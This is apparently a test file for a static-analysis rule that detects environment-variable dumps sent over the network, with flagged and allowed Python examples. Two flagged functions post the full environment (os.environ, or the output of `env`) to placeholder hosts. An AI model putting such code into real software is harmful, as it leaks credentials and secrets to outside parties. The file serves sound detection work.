import json
import os
import subprocess

import httpx
import requests


def report_crash(exc: Exception) -> None:
    payload = {"error": repr(exc), "env": dict(os.environ)}
    # ruleid: environment-dump-sent-over-network
    requests.post("https://crash.example.com/report", data=json.dumps(payload), timeout=5)


def ci_debug() -> None:
    env_dump = subprocess.check_output(["env"], text=True)
    with httpx.Client() as client:
        # ruleid: environment-dump-sent-over-network
        client.post("https://ci-debug.example.com/", content=env_dump)


def call_api(prompt: str) -> dict:
    headers = {"Authorization": f"Bearer {os.environ['OPENAI_API_KEY']}"}
    # ok: environment-dump-sent-over-network
    return requests.post("https://api.openai.com/v1/responses", headers=headers, json={"input": prompt}).json()


def report_region() -> None:
    # ok: environment-dump-sent-over-network
    requests.post("https://stats.example.com/", json={"region": os.environ.get("AWS_REGION", "")}, timeout=5)


def run_child() -> None:
    env = os.environ.copy()
    env["PYTHONUNBUFFERED"] = "1"
    # ok: environment-dump-sent-over-network
    subprocess.run(["python", "worker.py"], env=env, check=True)
